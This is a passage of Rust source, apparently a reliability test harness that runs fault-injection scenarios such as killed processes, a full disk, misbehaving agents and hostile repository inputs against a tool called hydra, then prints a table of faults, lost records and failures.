        (
            "SIGKILL during pause --now, kill and a store write",
            control_commands_killed_at_random_moments,
        ),
        (
            "tmux server killed under 10 sessions",
            tmux_server_killed_with_ten_sessions,
        ),
        (
            "hydra-mail daemon restarted during operations",
            mail_daemon_restarted_during_operations,
        ),
        ("full disk / read-only store", disk_full_and_read_only),
        ("4 processes of mixed operations", four_processes_of_mixed_operations),
        ("crashing, hanging, flooding, early-exit agents", misbehaving_agents),
        (
            "hostile repository: committed files that would run programs",
            hostile_repository,
        ),
        (
            "hostile ids, branches, dirs, PRDs, flags, messages, durations",
            hostile_input,
        ),
    ];
    let mut total = Counts::default();
    let mut failed = Vec::new();
    let started = Instant::now();
    let mut rows = Vec::new();
    let only = std::env::var("HYDRA_RELIABILITY_ONLY").ok();
    for (name, f) in &scenarios {
        if only.as_deref().is_some_and(|o| !name.contains(o)) {
            continue;
        }
        let t = Instant::now();
        let mut c = Counts::default();
        println!("reliability: {name} ...");
        let ok = std::panic::catch_unwind(AssertUnwindSafe(|| f(&mut rng, &mut c))).is_ok();
        if !ok {
            failed.push(*name);
        }
        rows.push(format!(
            "| {name:<62} | {:<4} | {:>6} | {:>7} | {:>4} | {:>10} | {:>5.1}s |",
            if ok { "ok" } else { "FAIL" },
            c.faults,
            c.hostile,
            c.lost,
            c.unreported,
            t.elapsed().as_secs_f64()
        ));
        total.faults += c.faults;
        total.hostile += c.hostile;
        total.lost += c.lost;
        total.unreported += c.unreported;
    }
    println!(
        "\n| {:<62} | {:<4} | {:>6} | {:>7} | {:>4} | {:>10} | {:>6} |",
        "scenario", "", "faults", "hostile", "lost", "unreported", "time"
    );
    println!(
        "|{}|------|--------|---------|------|------------|--------|",
        "-".repeat(64)
    );
    for r in &rows {
        println!("{r}");
    }
    println!(
        "\nscenarios run: {} ({} mode); faults injected: {}; hostile inputs tried: {}; records lost: {}; orphans unreported: {}; {:.1}s",
        scenarios.len(),
        if full() { "full" } else { "quick" },
        total.faults,
        total.hostile,
        total.lost,
        total.unreported,
        started.elapsed().as_secs_f64()
    );
    let bad = failed.len() + usize::from(total.lost > 0) + usize::from(total.unreported > 0);
    println!(
        "reliability: {} passed, {} failed",
        scenarios.len() - failed.len(),
        failed.len()
    );
    if bad > 0 {
        println!(
            "failed: {failed:?}; records lost {}, orphans unreported {}",
            total.lost, total.unreported
        );
        std::process::exit(1);
    }
}
